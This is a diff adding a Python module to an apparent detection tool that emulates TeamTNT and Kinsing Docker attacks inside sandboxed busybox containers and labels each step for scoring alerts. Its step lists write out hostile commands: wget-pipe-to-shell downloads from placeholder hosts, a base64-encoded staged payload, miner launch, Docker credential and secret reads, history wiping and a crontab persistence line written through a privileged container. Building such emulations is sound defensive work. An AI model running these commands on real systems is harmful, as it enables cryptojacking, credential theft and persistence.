@@ -1,0 +1,191 @@
+"""``execguard emulate docker``: run the Docker-side attack procedures for real, safely, and label what was done.
+
+Everything runs in busybox containers (image ``local/bb:1``, imported from /usr/bin/busybox when missing) with
+``network_mode="none"``: the downloads fail, nothing leaves the host. Only a local daemon is accepted (unix socket or
+TCP on a loopback address) unless ``--allow-remote``. Every container made is removed at the end, even on error.
+
+The labels file has one line per API action, keyed by time, container, exec ID and step, so the alerts of
+``execguard hunt`` over the daemon's events or debug log can be joined to it by ``event_id``/container and time.
+"""
+
+from __future__ import annotations
+
+import base64
+import contextlib
+import ipaddress
+import json
+import os
+import secrets
+import shutil
+import tempfile
+from collections.abc import Callable
+from datetime import UTC, datetime
+from pathlib import Path
+from typing import IO, Annotated, Any
+from urllib.parse import urlsplit
+
+import typer
+
+IMAGE = "local/bb:1"
+EMU_LABEL = "io.execguard.emulate"
+SCENARIOS = ("teamtnt", "kinsing")
+
+
+class EmulateError(RuntimeError):
+    pass
+
+
+def is_local(url: str) -> bool:
+    parts = urlsplit(url)
+    if parts.scheme in ("unix", "npipe"):
+        return True
+    if parts.scheme not in ("tcp", "http", "https"):
+        return False
+    host = parts.hostname or ""
+    if host == "localhost":
+        return True
+    try:
+        return ipaddress.ip_address(host).is_loopback
+    except ValueError:
+        return False
+
+
+def _now() -> str:
+    return datetime.now(UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
+
+
+class Emulator:
+    def __init__(self, client: Any, out: IO[str], image: str = IMAGE) -> None:
+        self.client = client
+        self.api = client.api
+        self.out = out
+        self.image = image
+        self.created: list[str] = []
+        self.tmpdirs: list[str] = []
+        self.run_id = secrets.token_hex(3)
+        self.actions = 0
+
+    # ---- plumbing ----------------------------------------------------------------------------
+    def ensure_image(self) -> None:
+        import docker.errors
+
+        try:
+            self.client.images.get(self.image)
+        except docker.errors.ImageNotFound:
+            from ..testing.dockerd import busybox_rootfs_tar
+
+            repo, _, tag = self.image.rpartition(":")
+            self.api.import_image_from_data(busybox_rootfs_tar(), repository=repo, tag=tag)
+
+    def label(self, scenario: str, procedure: str, step: str, container: Any, exec_id: str | None, command: list[str],
+              **extra: Any) -> None:
+        rec = {"time": _now(), "container": container.id, "container_name": container.name, "exec_id": exec_id, "step": step,
+               "scenario": scenario, "procedure": procedure, "malicious": True, "command": command, **extra}
+        self.out.write(json.dumps(rec, separators=(",", ":")) + "\n")
+        self.out.flush()
+        self.actions += 1
+
+    def run(self, name: str, cmd: list[str], labels: dict[str, str] | None = None, **kw: Any) -> Any:
+        ctr = self.client.containers.create(self.image, cmd, name=f"{name}-{self.run_id}", network_mode="none", detach=True,
+                                            labels={EMU_LABEL: self.run_id, **(labels or {})}, **kw)
+        self.created.append(ctr.id)
+        ctr.start()
+        return ctr
+
+    def exec(self, ctr: Any, cmd: list[str], *, user: str = "", privileged: bool = False, detach: bool = False) -> tuple[str, int | None]:
+        exec_id = self.api.exec_create(ctr.id, cmd, user=user, privileged=privileged)["Id"]
+        self.api.exec_start(exec_id, detach=detach)
+        code = None if detach else self.api.exec_inspect(exec_id).get("ExitCode")
+        return exec_id, code
+
+    def cleanup(self) -> None:
+        for cid in self.created:
+            with contextlib.suppress(Exception):
+                self.client.containers.get(cid).remove(force=True)
+        self.created.clear()
+        for d in self.tmpdirs:
+            shutil.rmtree(d, ignore_errors=True)
+
+    # ---- procedures --------------------------------------------------------------------------
+    def teamtnt(self) -> None:
+        sc, proc = "teamtnt", "G0139"
+        victims = [self.run(n, ["sleep", "600"], labels={"app": n}) for n in ("web", "api")]
+        miner = "http://198.51.100.23/bin/xmrig"
+        stage = base64.b64encode(b"wget -q -O - http://198.51.100.23/cmd/init.sh | sh").decode()
+        steps = [
+            ("download miner", ["sh", "-c", f"mkdir -p /tmp/.x; wget -q -T 2 -O /tmp/.x/xmrig {miner} || true; chmod +x /tmp/.x/xmrig"], "",
+             False, False),
+            ("run miner", ["sh", "-c", "nohup /tmp/.x/xmrig -o stratum+tcp://pool.example.net:3333 --donate-level 1 >/dev/null 2>&1 &"], "",
+             False, True),
+            ("staged payload", ["sh", "-c", f"echo {stage} | base64 -d | sh"], "", False, False),
+            ("steal credentials", ["sh", "-c", "cat /root/.docker/config.json 2>/dev/null; env | grep -i -E 'aws|secret|token'"], "0",
+             True, False),
+            ("wipe history", ["sh", "-c", "rm -f ~/.ash_history /root/.ash_history; unset HISTFILE; cat /dev/null > /tmp/wtmp"], "",
+             False, False),
+        ]
+        for ctr in victims:
+            for step, cmd, user, priv, detach in steps:
+                exec_id, code = self.exec(ctr, cmd, user=user, privileged=priv, detach=detach)
+                self.label(sc, proc, step, ctr, exec_id, cmd, user=user, privileged=priv, exit_code=code)
+        host_dir = tempfile.mkdtemp(prefix="execguard-emu-")  # stands in for the host's / : nothing real is touched
+        self.tmpdirs.append(host_dir)
+        cmd = ["sh", "-c", "echo '* * * * * root wget -q -O - http://198.51.100.23/cron.sh | sh' >> /host/crontab"]
+        esc = self.run("escape", cmd, privileged=True, volumes={host_dir: {"bind": "/host", "mode": "rw"}})
+        self.label(sc, proc, "escape to host", esc, None, cmd, privileged=True, binds=[f"{host_dir}:/host"])
+        esc.wait(timeout=30)
+
+    def kinsing(self) -> None:
+        # busybox has no bash: the same entrypoint through sh
+        cmd = ["-c", "apt-get update && apt-get install -y wget cron; wget -q -O - http://203.0.113.66/d.sh | sh"]
+        ctr = self.run("ubuntu", cmd, entrypoint=["sh"])
+        self.label("kinsing", "S0599", "create container with downloader entrypoint", ctr, None, ["sh", *cmd])
+        ctr.wait(timeout=30)
+
+
+def emulate(client: Any, scenario: str, out: IO[str]) -> int:
+    emu = Emulator(client, out)
+    emu.ensure_image()
+    chosen = SCENARIOS if scenario == "all" else (scenario,)
+    procs: dict[str, Callable[[], None]] = {"teamtnt": emu.teamtnt, "kinsing": emu.kinsing}
+    try:
+        for name in chosen:
+            procs[name]()
+    finally:
+        emu.cleanup()
+    return emu.actions
+
+
+def emulate_command(
+    target: Annotated[str, typer.Argument(help="What to emulate against: docker.")],
+    labels: Annotated[Path, typer.Option("--labels", help="Write what was done here (JSON lines).")],
+    host: Annotated[str | None, typer.Option("--host", help="Docker daemon URL (default: $DOCKER_HOST or the local socket).")] = None,
+    scenario: Annotated[str, typer.Option("--scenario", help="teamtnt, kinsing or all.")] = "all",
+    allow_remote: Annotated[bool, typer.Option("--allow-remote", help="Accept a daemon that is not on this host.")] = False,
+) -> None:
+    """Run the Docker-side attack procedures for real against a daemon (busybox, no network) and label them."""
+    if target != "docker":
+        typer.echo(f"error: unknown target {target!r}: only docker", err=True)
+        raise typer.Exit(2)
+    if scenario != "all" and scenario not in SCENARIOS:
+        typer.echo(f"error: --scenario {scenario!r}: choose teamtnt, kinsing or all", err=True)
+        raise typer.Exit(2)
+    url = host or os.environ.get("DOCKER_HOST") or "unix:///var/run/docker.sock"
+    if not is_local(url) and not allow_remote:
+        typer.echo(f"error: {url} is not a local daemon; refusing (use --allow-remote to run against it anyway)", err=True)
+        raise typer.Exit(2)
+    import docker
+    import docker.errors
+
+    try:
+        client = docker.DockerClient(base_url=url, timeout=60)
+        client.ping()
+    except docker.errors.DockerException as exc:
+        typer.echo(f"error: cannot reach the Docker daemon at {url}: {exc}", err=True)
+        raise typer.Exit(2) from None
+    with open(labels, "w", encoding="utf-8") as out:
+        try:
+            n = emulate(client, scenario, out)
+        except docker.errors.DockerException as exc:
+            typer.echo(f"error: {exc}", err=True)
+            raise typer.Exit(1) from None
+    typer.echo(f"{n} actions against {url}; labels in {labels}; containers removed", err=True)
